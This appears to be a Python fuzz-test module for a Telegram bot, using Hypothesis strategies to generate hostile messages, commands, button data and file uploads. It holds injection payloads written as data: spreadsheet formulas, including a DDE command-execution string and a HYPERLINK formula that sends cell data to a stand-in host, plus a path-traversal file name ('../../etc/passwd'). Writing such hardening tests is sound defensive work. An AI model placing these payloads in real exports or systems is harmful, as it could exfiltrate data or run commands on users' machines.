"""Hypothesis strategies for hostile updates, and turning a drawn one into a Telegram update."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

from mina_bot import buttons
from mina_bot.commands import COMMANDS
from sandbox import users
from sandbox.formatting import auto_entities
from tests.hardening.fuzz_world import ROLES, FuzzWorld

ZERO_WIDTH = "\u200b\u200c\u200d\u200e\u200f\u2066\u2067\u2068\u2069\ufeff\u00ad"
MARKUP = "<>&\"'/;=#@:_-*`[]()\\ \n\t"
letters = st.one_of(
    st.characters(min_codepoint=0x0600, max_codepoint=0x06FF),  # Persian and Arabic
    st.characters(min_codepoint=0x0750, max_codepoint=0x077F),  # Arabic supplement
    st.characters(min_codepoint=0x20, max_codepoint=0x7E),  # Latin, digits, punctuation
    st.characters(min_codepoint=0x1F300, max_codepoint=0x1FAFF),  # emoji
    st.sampled_from(ZERO_WIDTH + MARKUP + "۰۱۲۳۴۵۶۷۸۹٠١٢٣٤٥٦٧٨٩یکيك"),
)
PHRASES = ("<b>bold</b>", '<a href="https://evil.example">x</a>', "&amp;", "&", "<i>", "</b>",
           "1400/02/06", "۱۴۰۰/۰۲/۰۶", "فردا", "دو هفته", "کمیته زیرساخت", "بله", "خیر",
           "/cancel", "-1", "0", "99999999999999999999", "NaN", "انجام شد", "\u200c")
# What a spreadsheet would run as a formula (the XLSX export keeps them as text).
FORMULAS = ('=HYPERLINK("http://x?d="&A1,"y")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1/0", "-", "=")
formulas = st.one_of(st.sampled_from(FORMULAS), st.tuples(
    st.sampled_from("=+-@\t\r"), st.text(letters, max_size=40)).map("".join))
# Longer than any number, date or message allows: 5,000 digits, a text over Telegram's 4,096.
over_long = st.one_of(st.integers(21, 5000).map(lambda n: "9" * n),
                      st.integers(21, 60).map(lambda n: "۱۴۰۰/۰۲/" + "۰" * n),
                      st.integers(4097, 6000).map(lambda n: ("=A1&" * n)[:n]))
texts = st.one_of(
    st.text(letters, min_size=1, max_size=60),
    formulas,
    over_long.map(lambda t: t[:4096]),
    st.text(letters, min_size=1, max_size=4096),
    st.lists(st.sampled_from(PHRASES), min_size=1, max_size=6).map(" ".join),
    st.text(letters, min_size=1, max_size=8).map(lambda s: (s * 4096)[:4096]),
    st.sampled_from([" ", "\n", "\u200b", "\u200c\u200c", "\ufeff"]),
)
# Ids that exist in the seeded database are mixed in at build time (see _arg).
junk_args = st.one_of(st.integers(-3, 10**12).map(str), st.from_regex(r"[A-Za-z0-9_.-]{0,12}",
                                                                       fullmatch=True),
                      formulas, over_long)
# Always tried first: a 5,000-digit number to the commands that take one.
EXTREMES = [{"role": "secretariat", "user": 1002, "kind": "command", "chat": "private",
             "text": f"/{command} " + "9" * 5000}
            for command in ("import", "reports", "export", "resolutions", "session")]
CHAT_KINDS = ("private",) * 8 + ("group", "supergroup", "channel")
FILE_NAMES = ("minutes.txt", "minutes.docx", "report.pdf", "virus.exe", "a.xlsx", "noext",
              "صورتجلسه.txt", "../../etc/passwd", "x" * 200 + ".txt", "photo.jpg")
MIME_TYPES = (None, "text/plain", "application/pdf", "application/x-msdownload",
              "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
              "image/jpeg", "application/octet-stream", "text/html")


@st.composite
def batches(draw: st.DrawFn) -> list[dict[str, Any]]:
    """A few hostile things one user of some role does in a row."""
    role = draw(st.sampled_from(sorted(ROLES)))
    user = draw(st.sampled_from(ROLES[role]))
    return draw(st.lists(actions(role, user), min_size=1, max_size=6))


@st.composite
def actions(draw: st.DrawFn, role: str, user: int) -> dict[str, Any]:
    """One hostile thing a user does."""
    kind = draw(st.sampled_from(("text", "text", "command", "command", "command", "press",
                                 "press", "press", "document", "edit", "other")))
    action: dict[str, Any] = {"role": role, "user": user, "kind": kind}
    if kind == "text":
        action.update(text=draw(texts), chat=draw(st.sampled_from(CHAT_KINDS)))
    elif kind == "command":
        command = draw(st.sampled_from([c.name for c in COMMANDS] + ["nosuch", "START"]))
        args = draw(st.lists(st.one_of(texts.map(lambda t: t[:80]), junk_args, over_long),
                             max_size=3))
        suffix = draw(st.sampled_from(("", "", "@mina_demo_bot", "@other_bot")))
        action.update(text=" ".join([f"/{command}{suffix}", *args])[:4096],
                      chat=draw(st.sampled_from(CHAT_KINDS)))
    elif kind == "press":
        action.update(verb=draw(st.integers(0, 10**6)), args=draw(st.lists(
            st.one_of(st.just("real"), st.just("real"), junk_args), max_size=4)),
            raw=draw(st.one_of(st.none(), st.none(), st.none(), st.text(letters, max_size=64))),
            seed=draw(st.integers(0, 10**6)))
    elif kind == "document":
        action.update(name=draw(st.sampled_from(FILE_NAMES)),
                      content=draw(st.one_of(st.binary(max_size=300),
                                             texts.map(lambda t: t.encode()))),
                      mime=draw(st.sampled_from(MIME_TYPES)),
                      caption=draw(st.one_of(st.none(), texts.map(lambda t: t[:1024]))),
                      size=draw(st.one_of(st.none(), st.integers(0, 2 * 10**9))))
    elif kind == "edit":
        action.update(text=draw(texts))
    else:
        action.update(body=draw(st.sampled_from((
            {"sticker": {"file_id": "s", "file_unique_id": "s", "width": 1, "height": 1,
                         "is_animated": False, "is_video": False, "type": "regular"}},
            {"location": {"latitude": 35.7, "longitude": 51.4}},
            {"contact": {"phone_number": "+98", "first_name": "x"}},
            {"text": ""},
        ))))
    return action


def _arg(spec: str, ids: dict[str, list[int]], seed: int) -> str:
    if spec != "real":
        return spec
    pool = [i for values in ids.values() for i in values] or [1]
    return str(pool[seed % len(pool)])


def button_data(action: dict[str, Any], ids: dict[str, list[int]]) -> str:
    """Forged or stale callback data: a registered verb with real or junk ids, or raw junk."""
    if action["raw"] is not None:
        raw = action["raw"]
        while len(raw.encode()) > 64:
            raw = raw[:-1]
        return raw or "x"
    verbs = buttons.registered()
    verb = verbs[action["verb"] % len(verbs)]
    args = [_arg(a, ids, action["seed"] + i) for i, a in enumerate(action["args"])]
    data = ":".join([verb.feature, verb.verb, *args])
    while len(data.encode()) > 64:
        data = data.rsplit(":", 1)[0]
    return data


def build(fuzz: FuzzWorld, action: dict[str, Any]) -> dict[str, Any] | None:
    """The update a client would send for this action (None if the client could not)."""
    world, user = fuzz.world, action["user"]
    world.updates.clear()
    kind = action["kind"]
    if kind in ("text", "command"):
        chat_kind = action["chat"]
        chat_id = None if chat_kind == "private" else -100_000 - user
        body = {"text": action["text"]}
        if entities := auto_entities(action["text"]):
            body["entities"] = entities
        users.post(world, user, body, chat_id=chat_id, chat_type=chat_kind)
    elif kind == "press":
        message = fuzz.last_bot_message(user)
        if message is None:
            return None
        users.press(world, user, message.message_id, button_data(action, fuzz.ids()))
    elif kind == "document":
        body = users.document_body(world, action["name"], action["content"], action["mime"],
                                   action["caption"])
        if action["size"] is not None:
            body["document"]["file_size"] = action["size"]  # a client lying about the size
        users.post(world, user, body)
    elif kind == "edit":
        message = fuzz.last_own_text(user)
        if message is None:
            return None
        users.edit(world, user, message.message_id, action["text"])
    else:
        users.post(world, user, dict(action["body"]))
    update = world.updates[-1] if world.updates else None
    world.updates.clear()
    return update
